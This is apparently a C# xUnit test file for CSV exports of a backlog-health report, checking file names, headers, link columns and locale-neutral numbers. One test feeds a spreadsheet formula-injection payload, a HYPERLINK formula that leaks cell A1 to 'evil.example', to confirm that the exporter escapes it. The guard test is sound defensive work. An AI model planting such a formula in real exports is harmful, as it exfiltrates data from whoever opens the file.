using BacklogHealth.Core.Health;
using BacklogHealth.Core.Sentences;
using BacklogHealth.Core.WorkItems;
using BacklogHealth.Reports.Pages;

namespace BacklogHealth.Reports.Tests.Pages;

public sealed class CsvPageTests
{
    private static readonly Lazy<Dictionary<Audience, RenderedReport>> Sample = new(() => All("en"));

    public static TheoryData<Audience> Everyone => [.. Audiences.All];

    [Theory, MemberData(nameof(Everyone))]
    public void Each_table_and_each_chart_has_a_file_with_a_name_of_its_own(Audience audience)
    {
        var report = Sample.Value[audience];
        var parts = report.Json["parts"]!.AsArray();
        var tables = parts.Sum(p => p!["tables"]!.AsArray().Count);
        var charts = parts.SelectMany(p => p!["charts"]!.AsArray().Where(c => c!["drawn"]!.GetValue<bool>()).Select(c => $"{p["id"]}-{c!["id"]}")).ToList();

        Assert.Equal(tables + charts.Count, report.Csv.Length);
        Assert.Equal(report.Csv.Length, report.Csv.Select(c => c.Name).Distinct(StringComparer.Ordinal).Count());
        Assert.Subset(report.Csv.Select(c => c.Name).ToHashSet(StringComparer.Ordinal), charts.ToHashSet(StringComparer.Ordinal));
        Assert.All(report.Csv, c => Assert.Matches("^[a-z0-9-]+$", c.Name));
    }

    [Fact]
    public void Names_of_files_are_the_same_whatever_language_the_report_speaks()
    {
        var german = All("de");

        Assert.All(Audiences.All, a => Assert.Equal(Sample.Value[a].Csv.Select(c => c.Name), german[a].Csv.Select(c => c.Name)));
    }

    [Fact]
    public void A_table_has_the_same_name_whatever_other_tables_its_part_has_that_week()
    {
        static HealthInput Dated(HealthInput input) => input with
        {
            Releases = [new Release("2.0", DateOnly.FromDateTime(SampleHealth.Monday.Date).AddDays(40), false)],
            OpenItems = [.. input.OpenItems.Select((o, n) => o with { Item = o.Item with { Due = DateOnly.FromDateTime(SampleHealth.Monday.Date).AddDays(20 + n), FixVersions = n % 4 == 0 ? ["2.0"] : [] } })],
        };

        var both = Names(Audience.ProductOwner, Dated, "dates-in-the-tracker");
        Assert.Equal(["dates-in-the-tracker-releases", "dates-in-the-tracker-items"], both);
        Assert.Equal(both[1..], Names(Audience.ProductOwner, i => Dated(i) with { Releases = [] }, "dates-in-the-tracker"));

        var missing = Names(Audience.Coach, i => i, "not-ready");
        var first = Names(Audience.Coach, i => i with { OpenItems = [.. i.OpenItems.Where(o => o.Score.Findings.Any(f => f.RuleId == "CL001") || o.StateId != "To do")] }, "not-ready");
        Assert.True(missing.Count > 1);
        Assert.Equal("not-ready-cl001", Assert.Single(first));
        Assert.Contains(first[0], missing);
    }

    [Fact]
    public void Two_tables_of_one_name_are_told_apart()
    {
        static Table Of(string words) => Table.Of([new($"Word")], [[Sentence.Data(words)]]) with { Name = "b" };
        var files = CsvPage.Write(new Page($"T", $"L", Saying.English, [new Section("a", [Of("one"), Of("two"), Of("three")])]));

        Assert.Equal([("a-b", "one"), ("a-b-2", "two"), ("a-b-3", "three")], files.Select(f => (f.Name, f.Text.Split("\r\n")[1])));
    }

    [Fact]
    public void Keys_stand_as_keys_with_their_addresses_in_a_column_behind_them()
    {
        var lines = Sample.Value[Audience.Coach].Csv.Single(c => c.Name == "ageing").Text.Split("\r\n");

        Assert.Equal("Item,\"Item, link\",Title,State,Days in state,Age in days,Half need at most", lines[0]);
        Assert.StartsWith("CHK-421,https://acme.example/browse/CHK-421,Improve checkout performance,Test,61,62,", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public void Of_several_groups_each_row_names_its_own()
    {
        var groups = Sample.Value[Audience.Coach].Csv.Where(c => c.Name.StartsWith("not-ready", StringComparison.Ordinal)).ToList();

        Assert.Equal(["not-ready-cl004", "not-ready-cl001"], groups.Take(2).Select(c => c.Name));
        Assert.All(groups, c => Assert.StartsWith("Group,Item,\"Item, link\",Title,", c.Text, StringComparison.Ordinal));
        Assert.Contains(" items lack acceptance criteria,CHK-", groups[0].Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Without_addresses_there_is_no_column_for_them()
    {
        var report = ReportWriter.Render(Audience.Coach, new SampleHealth { BrowseUrl = null }.Input());

        Assert.StartsWith("Item,Title,State,", report.Csv.Single(c => c.Name == "ageing").Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Numbers_and_days_are_as_programs_read_them_in_every_language()
    {
        var english = Throughput(Sample.Value[Audience.Stakeholder]);
        var german = Throughput(ReportWriter.Render(Audience.Stakeholder, German()));

        Assert.Matches(@"^2026-\d\d-\d\d,\d+$", english[1]);
        Assert.Equal(english[1..], german[1..]);
    }

    [Fact]
    public void Titles_that_begin_like_a_formula_are_guarded()
    {
        var report = ReportWriter.Render(Audience.Coach, new SampleHealth { Title = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Refund\")" }.Input());

        Assert.Contains(report.Csv, c => c.Text.Contains("\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"Refund\"\")\"", StringComparison.Ordinal));
        Assert.DoesNotContain(report.Csv, c => c.Text.Contains(",\"=HYPERLINK", StringComparison.Ordinal) || c.Text.Contains("\n\"=HYPERLINK", StringComparison.Ordinal));
    }

    private static List<string> Names(Audience audience, Func<HealthInput, HealthInput> change, string part) =>
        [.. ReportWriter.Render(audience, new SampleHealth { Change = change }.Input()).Csv.Select(c => c.Name).Where(n => n.StartsWith(part, StringComparison.Ordinal))];

    private static string[] Throughput(RenderedReport report) => report.Csv.Single(c => c.Name == "record-throughput").Text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

    private static ReportInput German() => new SampleHealth { Change = i => i with { Language = "de" } }.Input();

    private static Dictionary<Audience, RenderedReport> All(string language)
    {
        var input = new SampleHealth { Change = i => i with { Language = language } }.Input();
        return Audiences.All.ToDictionary(a => a, a => ReportWriter.Render(a, input));
    }
}
